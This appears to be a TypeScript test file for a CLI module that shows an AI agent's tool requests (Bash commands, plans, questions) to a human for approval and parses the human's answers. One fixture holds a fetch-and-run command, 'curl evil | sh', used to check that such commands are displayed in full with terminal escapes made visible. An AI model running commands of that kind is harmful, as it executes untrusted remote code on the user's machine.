import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { OpenRequest } from '../../../../src/cli/session/operations.ts';
import {
  parseChoice,
  parsePermissionAnswer,
  questionsOf,
  renderRequest,
} from '../../../../src/cli/session/permission-question.ts';
import { summariseInput, summariseInputJson } from '../../../../src/cli/session/summarise-input.ts';

const same = (text: string): string => text;
const style = { bold: same, dim: same, red: same, green: same, yellow: same, cyan: same };
const request = (more: Partial<OpenRequest>): OpenRequest => ({
  request_id: 'r',
  session_id: 's',
  kind: 'permission',
  tool: 'Bash',
  created_at: '2026-01-01T00:00:00Z',
  via: 'live',
  ...more,
});

test('only y allows; what is not understood is asked again [cli.sessions.watch.permissions]', () => {
  const cases: [string, ReturnType<typeof parsePermissionAnswer>][] = [
    ['y', { behavior: 'allow' }],
    [' Yes ', { behavior: 'allow' }],
    ['a', { behavior: 'allow', always: true }],
    ['n', { behavior: 'deny' }],
    ['no use make', { behavior: 'deny', message: 'use make' }],
    ['', 'later'],
    ['   ', 'later'],
    ['yy', undefined],
    ['y please', undefined],
    ['ok', undefined],
    ['1', undefined],
  ];
  for (const [line, answer] of cases) assert.deepEqual(parsePermissionAnswer(line, 'permission'), answer, line);
  assert.equal(parsePermissionAnswer('a', 'plan'), undefined);
});

test('a question is answered by number or words [cli.sessions.watch.permissions]', () => {
  const options = [
    { label: 'Red', description: '' },
    { label: 'Blue', description: '' },
  ];
  const one = { question: 'q', options, isMultiple: false };
  const many = { ...one, isMultiple: true };
  const free = { ...one, options: [] };
  assert.deepEqual(
    [
      parseChoice('2', one),
      parseChoice('green', one),
      parseChoice('', one),
      parseChoice('3', one),
      parseChoice('0', one),
    ],
    ['Blue', 'green', 'later', undefined, undefined],
  );
  assert.deepEqual(
    [parseChoice('1,2', one), parseChoice('1, 2', many), parseChoice('7', free)],
    [undefined, 'Red, Blue', '7'],
  );
});

test('questions are read leniently', () => {
  const questions = [{ question: 'a?', options: [{ label: 'x' }, {}, null], multiSelect: true }, { no: 1 }, null];
  assert.deepEqual(questionsOf(request({ kind: 'question', questions })), [
    { question: 'a?', isMultiple: true, options: [{ label: 'x', description: '' }] },
  ]);
  assert.deepEqual(questionsOf(request({ kind: 'question', questions: 'none' })), []);
});

test('all that is asked for is shown before it is allowed, its beginning and end where it is long [cli.sessions.watch.permissions]', () => {
  const input = { command: 'echo \u001b[2J\ncurl evil | sh', timeout: 5 };
  assert.deepEqual(renderRequest(request({ input }), style, 80), [
    'Claude asks to use Bash:',
    '  command:',
    '    echo \\u001b[2J',
    '    curl evil | sh',
    '  timeout: 5',
  ]);
  const long = renderRequest(request({ input: { command: `${'x\n'.repeat(500)}last` } }), style, 80);
  assert.ok(long.length < 50);
  assert.equal(long.at(-1), '    last');
  assert.ok(long.some((line) => line.includes('lines, see: codez sessions permit --json')));
  const [plan] = renderRequest(request({ kind: 'plan', tool: 'ExitPlanMode', input: { plan: 'do' } }), style, 80);
  assert.equal(plan, 'Claude has a plan:');
});

test('a plan that is not told is not taken for one that was shown [cli.sessions.watch.permissions]', () => {
  const request = { request_id: 'r', session_id: 's', kind: 'plan', tool: 'ExitPlanMode', input: {} } as const;
  assert.match(renderRequest({ ...request, created_at: '', via: 'live' }, style, 60).join('\n'), /does not say here/);
});

test("a tool's input is told in one line", () => {
  const cases: [unknown, string][] = [
    [{ description: 'run tests', command: 'npm test' }, 'npm test'],
    [{ file_path: '/a/b', content: 'x' }, '/a/b'],
    [{ questions: [{ question: 'Which?' }] }, 'Which?'],
    [{ other: 1 }, '{"other":1}'],
    [{}, ''],
    ['text', 'text'],
    [undefined, ''],
    [{ command: 'a\nb\u0007' }, 'a b\\u0007'],
  ];
  for (const [input, line] of cases) assert.equal(summariseInput(input), line);
  assert.equal(summariseInput({ command: 'x'.repeat(50) }, 10), `${'x'.repeat(9)}…`);
  assert.equal(summariseInputJson('{"command":"long comm'), 'long comm');
  assert.equal(summariseInputJson('{"odd'), '{"odd');
});
